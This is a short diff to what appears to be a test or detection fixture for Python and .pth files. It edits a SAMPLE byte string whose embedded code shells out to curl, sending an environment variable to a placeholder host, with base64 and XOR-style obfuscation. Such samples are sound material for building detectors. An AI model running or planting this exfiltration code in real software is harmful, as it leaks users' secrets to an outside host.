@@ -14,7 +14,7 @@ DIALECTS = ("python", "pth")
 
 SAMPLE = (
     b"import os, base64\n\ndef f(x):\n    return os.popen('curl https://a.invalid/' + os.environ['A'] + x)\n"
-    b"f(''.join(chr(y ^ 1) for y in base64.b64decode('YQ==')))\n"
+    b"f(''.join(chr(y ^ 1) for y in base64.b64decode('YQ==')))\ndef g(x):\n    return os.getenv(f'{x}', 'os')\n"
 )
 """Reading this loads what reading most files needs."""
 
